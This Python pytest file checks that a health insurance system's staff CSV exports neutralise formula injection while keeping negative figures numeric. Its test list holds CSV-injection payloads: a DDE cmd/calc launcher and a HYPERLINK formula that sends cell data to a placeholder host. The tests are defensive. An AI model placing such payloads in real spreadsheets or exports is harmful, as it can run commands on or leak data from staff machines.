"""Every CSV written for staff hands a spreadsheet no formula (kokuho.platform.csv_cells): the finance office's
収納率 (kokuho.collection.statistics) and the 受診率 (kokuho.health.rates) are made from a JSON document read from a
file (`kokuho collection-stats|checkup-stats --stats FILE`): a document edited, or a ward name taken from it,
reached the sheet as a formula — only the security team's audit CSV was guarded. A figure stays a number, a
negative one too (a refund: -1200; a rate "-3.50")."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from kokuho.collection.statistics import statistics_csv
from kokuho.health.rates import rates_csv
from kokuho.platform.csv_cells import FORMULA_STARTS, number_cell, text_cell
from kokuho_local.cli.main import main

FORMULAS = ['=HYPERLINK("https://example.invalid/?"&A1,"詳細")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "＝1+1"]


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _runs(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _month(month: str, collected: Any, cumulative: Any, rate: Any) -> dict[str, Any]:
    return {"month": month, "collected": collected, "cumulative": cumulative, "rate": rate}


def _part(ward: str, typed: str) -> dict[str, Any]:
    return {"due": 100_000, "collected": -1200, "rate": "-1.20", "by_month": [_month(typed, -1200, typed, "-1.20")],
            "by_ward": [{"ward": ward, "due": typed, "collected": 5, "rate": typed,
                         "by_month": [_month("2025-06", typed, 5, typed)]}]}


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_collection_statistics_csv_runs_no_formula(typed: str) -> None:
    doc = {"fiscal_year": 2025, "as_of": "2025-12-31", **{k: _part(typed, typed)
                                                         for k in ("current", "carried_over", "total")}}
    rows = _cells(statistics_csv(doc))
    assert not [c for row in rows for c in row if _runs(c)]
    assert "'" + typed in rows[2]  # the ward's name, and a month, a figure, a rate that were text
    whole = rows[1]
    assert whole[4:] == ["100000", "-1200", "-1200", "-1.20"]  # a negative figure stays a number


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_checkup_rates_csv_runs_no_formula(typed: str) -> None:
    doc = {"fiscal_year": 2026, "total": {"issued": 4, "used": -1, "rate": "-25.0"},
           "rows": [{"ward": typed, "age_band": typed, "issued": typed, "used": 1, "rate": typed}]}
    rows = _cells(rates_csv(doc))
    assert not [c for row in rows for c in row if _runs(c)]
    assert rows[1][3:] == ["4", "-1", "-25.0"] and rows[2][1:4] == ["'" + typed] * 3


def test_the_cli_writes_the_csv_of_an_edited_document_without_a_formula(tmp_path: Path) -> None:
    typed = FORMULAS[0]
    doc = {"fiscal_year": 2026, "total": {"issued": 4, "used": 2, "rate": "50.0"},
           "rows": [{"ward": typed, "age_band": "40-44", "issued": 4, "used": 2, "rate": "50.0"}],
           "small_cells": {}}
    stats, out = tmp_path / "rates.json", tmp_path / "rates.csv"
    stats.write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    assert main(["checkup-stats", "--stats", str(stats), "--csv", str(out)]) == 0
    assert ["2026", "'" + typed, "40-44", "4", "2", "50.0"] in _cells(out.read_text("utf-8"))


def test_a_number_column_keeps_figures_and_a_text_column_neutralises() -> None:
    assert [number_cell(v) for v in (-1200, 0, "-3.50", "12", "", None, "秘匿")] == [
        -1200, 0, "-3.50", "12", "", None, "秘匿"]
    assert [number_cell(v) for v in ("-1+2", "=1", "1e5", "-", True)] == ["'-1+2", "'=1", "1e5", "'-", "True"]
    assert [text_cell(v) for v in ("-1200", "＠x", "区", 5)] == ["'-1200", "'＠x", "区", 5]


def test_every_csv_writer_writes_its_cells_through_the_one_rule() -> None:
    # Three writers, one guarded: a new CSV for staff must take kokuho.platform.csv_cells, never a rule of its own.
    root = Path(__file__).resolve().parents[3]
    writers = [p for base in ("layers", "functions", "local") for p in (root / base).rglob("*.py")
               if "csv.writer(" in (text := p.read_text("utf-8")) or "csv.DictWriter(" in text]
    assert len(writers) >= 3
    assert [str(p.relative_to(root)) for p in writers
            if "from kokuho.platform.csv_cells import" not in p.read_text("utf-8")] == []
